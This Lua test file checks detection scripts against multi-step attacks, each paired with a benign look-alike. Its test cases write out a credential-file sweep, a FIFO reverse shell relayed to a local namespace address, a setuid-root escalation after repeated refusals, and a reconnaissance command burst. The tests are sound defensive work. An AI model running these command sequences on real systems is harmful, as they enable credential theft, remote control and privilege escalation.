-- Detection scripts for attacks made of steps that are each harmless
-- (rules/detections/*.lua): for each, the packaged rules alone stay silent
-- on the attack, the script (loaded beside them) alerts, and a benign
-- look-alike stays silent.
--
-- Needs root: network steps run in a network namespace of their own
-- (10.99.0.1 on its lo), the privilege case runs steps as user nobody.
local H = require "spec.fixtures.detect.harness"

local ACT = H.build_act()
local D = "rules/detections/"
local RELAY = "spec/fixtures/detect/relay.py"
local q = H.q

local function sh(line) return { "sh", "-c", line } end

-- The attack under the rules alone, then under rules and script: alerts of
-- each run.
local function both(script, argv, wrap)
	local rc, rules_only, err = H.run_script(nil, argv, wrap, { "-R", "rules/" })
	assert.are.equal(0, rc, err)
	local rc2, with_script, err2 = H.run_script(D .. script, argv, wrap, { "-R", "rules/" })
	assert.are.equal(0, rc2, err2)
	return rules_only, with_script, err2
end

-- A benign look-alike under the script alone: it runs, and RULE is silent.
local function quiet(script, rule, argv, wrap)
	local rc, alerts, err = H.run_script(D .. script, argv, wrap)
	assert.are.equal(0, rc, err)
	assert.are.same({}, H.of_rule(alerts, rule))
end

local describe_root = H.is_root() and describe or pending

describe_root("detection: credential stores swept", function()
	local RULE, S = "Credential stores swept", "credential_burst.lua"
	local dir
	before_each(function()
		dir = H.tmpdir()
		H.sh("mkdir -p " .. q(dir .. "/.config/gh") .. " && cd " .. q(dir)
			.. " && for f in .npmrc .pypirc .config/gh/hosts.yml .bash_history .s3cfg; do echo x > $f; done")
	end)
	after_each(function() H.sh("rm -rf " .. q(dir)) end)

	it("alerts on four kinds read in one session; the rules alone say nothing", function()
		local f = function(n) return q(dir .. "/" .. n) end
		local rules_only, alerts, err = both(S, sh("cat " .. f(".npmrc") .. " " .. f(".pypirc") .. " >/dev/null; cat "
			.. f(".config/gh/hosts.yml") .. " >/dev/null; " .. ACT .. " read " .. f(".bash_history")
			.. " read " .. f(".s3cfg")))
		assert.are.same({}, rules_only)
		local a = H.of_rule(alerts, RULE)
		assert.are.equal(1, #a, err)
		assert.are.equal("github cli,history,npm,pypi", a[1].output_fields.kinds)
		assert.are.equal(S, a[1].output_fields["lanner.script"]:match("[^/]+$"))
	end)

	it("stays quiet for one store read again and again, and for stores read by their own tools", function()
		quiet(S, RULE, sh("for i in 1 2 3 4 5; do cat " .. q(dir .. "/.npmrc")
			.. " > /dev/null; done"))
		-- the same four files, each read by a program named as its owner
		H.sh("for n in npm twine gh bash; do cp " .. ACT .. " " .. q(dir) .. "/$n; done")
		quiet(S, RULE, sh("cd " .. q(dir) .. " && ./npm read .npmrc && ./twine read .pypirc"
			.. " && ./gh read .config/gh/hosts.yml && ./bash read .bash_history"))
	end)
end)

describe_root("detection: shell driven through a network relay", function()
	local RULE, S = "Shell driven through a network relay", "relay_shell.lua"
	local dir
	before_each(function() dir = H.tmpdir() end)
	after_each(function() H.sh("rm -rf " .. q(dir)) end)
	-- a "remote" end on 10.99.0.1:9001 that sends one command
	local function wrap()
		return H.netns(ACT, "python3 " .. RELAY .. " serve 10.99.0.1 9001 " .. q(dir .. "/ready") .. " > "
			.. q(dir .. "/got") .. " & while [ ! -e " .. q(dir .. "/ready") .. " ]; do sleep 0.05; done")
	end

	it("alerts on cat FIFO | sh -i | relay > FIFO; the rules alone say nothing", function()
		local f = q(dir .. "/f")
		local rules_only, alerts, err = both(S, sh("mkfifo " .. f .. "; cat " .. f .. " | sh -i 2>&1 | python3 "
			.. RELAY .. " relay 10.99.0.1 9001 > " .. f), wrap())
		assert.are.same({}, rules_only)
		local a = H.of_rule(alerts, RULE)
		assert.are.equal(1, #a, err)
		assert.matches("10%.99%.0%.1:9001", a[1].output_fields["relay.connection"])
		assert.matches("relayed", H.read(dir .. "/got") or "")
	end)

	it("stays quiet for a download piped into a shell, and a shell piped into a local program", function()
		quiet(S, RULE, sh("printf 'true\\n' | python3 " .. RELAY
			.. " relay 10.99.0.1 9001 | sh > /dev/null"), wrap())
		quiet(S, RULE, sh("printf 'echo hi\\n' | sh | cat > /dev/null"))
	end)
end)

describe_root("detection: root gained after a run of refusals", function()
	local RULE, S = "Root gained after a run of refusals", "refusals_then_root.lua"
	-- a setuid-root copy of act: the "misconfigured helper" that works (in
	-- build/, not a temp dir, where running it would raise a rule of its own)
	local suid = "build/test/suid-helper"
	before_each(function() H.sh("cp " .. ACT .. " " .. suid .. " && chmod 4755 " .. suid) end)
	after_each(function() H.sh("rm -f " .. suid) end)
	local function as_nobody(line)
		return { "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", line }
	end

	it("alerts when a user refused 12 times then runs a setuid-root program; the rules alone say nothing", function()
		local rules_only, alerts, err = both(S, as_nobody(ACT .. " failopen 12 /root; " .. q(suid) .. " setuid 0"))
		assert.are.same({}, rules_only)
		local a = H.of_rule(alerts, RULE)
		assert.are.equal(1, #a, err)
		assert.are.equal(65534, a[1].output_fields["uid.before"])
		assert.are.equal(12, a[1].output_fields.refusals)
	end)

	it("stays quiet for the setuid program without refusals, and for refusals without root", function()
		quiet(S, RULE, as_nobody(ACT .. " failopen 2 /root; " .. q(suid) .. " setuid 0"))
		quiet(S, RULE, as_nobody(ACT .. " failopen 30 /root; " .. ACT .. " read /etc/hostname"))
	end)
end)

describe_root("detection: discovery commands in a burst", function()
	local RULE, S = "Discovery commands in a burst", "recon_burst.lua"

	it("alerts when one shell runs six discovery programs; the rules alone say nothing", function()
		local rules_only, alerts, err = both(S, sh("id; uname -a; hostname; ps -e; env; df; true"))
		assert.are.same({}, rules_only)
		local a = H.of_rule(alerts, RULE)
		assert.are.equal(1, #a, err)
		assert.are.equal("df,env,hostname,id,ps,uname", a[1].output_fields.programs)
	end)

	it("stays quiet for a script that runs three of them, twice, among other work", function()
		quiet(S, RULE, sh("id; uname; hostname; ls /; cat /etc/hostname; id; uname -a;"
			.. " hostname; true"))
	end)
end)
